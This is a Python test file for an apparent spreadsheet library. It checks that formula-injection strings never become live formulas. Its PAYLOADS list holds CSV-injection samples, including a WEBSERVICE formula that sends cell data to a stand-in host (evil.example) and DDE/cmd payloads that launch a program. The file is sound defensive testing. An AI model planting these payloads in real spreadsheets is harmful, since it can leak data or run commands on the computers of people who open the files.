"""Whatever a vendor's report says, no cell, header, title or property becomes a formula."""

import re
import shutil
from decimal import Decimal
from pathlib import Path

import pytest
from billow_templates import template as kept
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree

from billow.workbook import Cell, SheetLayout, Workbook
from billow.workbook.cells import Formula
from tests.workbook.making import calculated, template

# from the OWASP page on CSV injection, and what spreadsheet programs are known to run
PAYLOADS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    " =1+1",
    "'=1+1",
    '"=1+1"',
    '=HYPERLINK("http://evil.example","click")',
    '=WEBSERVICE("http://evil.example/?"&A1)',
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    "http://evil.example",
    "=A1\x00",
    "{=1+1}",
    "_x003D_1+1",
    "-12.50",
    "+49 170",
    "<f>1+1</f>",
    "]]><f>1+1</f>",
)
AMOUNTS = st.decimals(min_value=-(10**9), max_value=10**9, places=6, allow_nan=False)
_TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"


def live(path: Path, folder: Path) -> list[str]:
    """Return the formulas that LibreOffice sees; how many rows a column of a table has is left open."""
    tree = etree.parse(calculated(path, folder)).getroot()
    found = [cell.get(f"{_TABLE}formula", "") for cell in tree.iter() if cell.get(f"{_TABLE}formula")]
    return [re.sub(r":\.\$[A-Z]+\$\d+", "", formula) for formula in found]


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_no_text_is_a_live_formula_for_libreoffice(tmp_path: Path) -> None:
    path = template(tmp_path)
    before = live(path, tmp_path / "before")
    book = Workbook.open(path)
    book.write("tblTodo", [{"Key": str(n), "What": text, "Kind": text} for n, text in enumerate(PAYLOADS)])
    book.append("tblLog", [{"No": n, "Summary": text} for n, text in enumerate(PAYLOADS)])
    book.set_cells({"Billow_Run": PAYLOADS[0]})
    cells = tuple(Cell(row, 1, text, "invoice_line") for row, text in enumerate(PAYLOADS, start=1))
    book.put_sheet("=1+1", SheetLayout(cells=cells, footer=f"&L{PAYLOADS[0]}"))
    book.set_property("Billow register", "=1+1")
    book.save()
    assert sorted(live(path, tmp_path / "after")) == sorted(before)


def test_texts_come_back_as_they_were(tmp_path: Path) -> None:
    book = Workbook.open(template(tmp_path))
    book.write("tblTodo", [{"Key": str(n), "What": text} for n, text in enumerate(PAYLOADS)])
    book.save()
    read = [row["What"] for row in Workbook.open(book.path).read("tblTodo")]
    visible = [text.replace("\x00", "␀").replace("\r", "\n").strip() for text in PAYLOADS]
    assert read == visible


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    texts=st.lists(st.text(st.characters(), max_size=20), max_size=30), numbers=st.lists(AMOUNTS, max_size=30)
)
def test_any_text_and_any_amount_come_back(tmp_path: Path, texts: list[str], numbers: list[Decimal]) -> None:
    book = Workbook.open(kept("Billing"))
    count = max(len(texts), len(numbers))
    texts, numbers = texts + [""] * (count - len(texts)), numbers + [Decimal(0)] * (count - len(numbers))
    rows = zip(texts, numbers, strict=True)
    book.write(
        "tblTodo", [{"Key": f"k{n}", "What": text, "Cost": cost} for n, (text, cost) in enumerate(rows)]
    )
    book.save(tmp_path / "Billing.xlsx")
    read = Workbook.open(tmp_path / "Billing.xlsx").read("tblTodo")
    assert [row["Cost"] for row in read] == numbers
    same = [(row["What"] or "").split() == text.split() for row, text in zip(read, texts, strict=True)]
    assert all(was_same or not text.isprintable() for was_same, text in zip(same, texts, strict=True))


def test_a_text_given_as_the_value_of_a_formula_stays_a_text(tmp_path: Path) -> None:
    book = Workbook.open(template(tmp_path))
    book.write("tblProblems", [{"Key": "1", "Where": Formula('HYPERLINK("#Prices!A5","=1+1")', "=1+1")}])
    book.save()
    (row,) = book.read("tblProblems")
    assert row["Where"] == "=1+1"
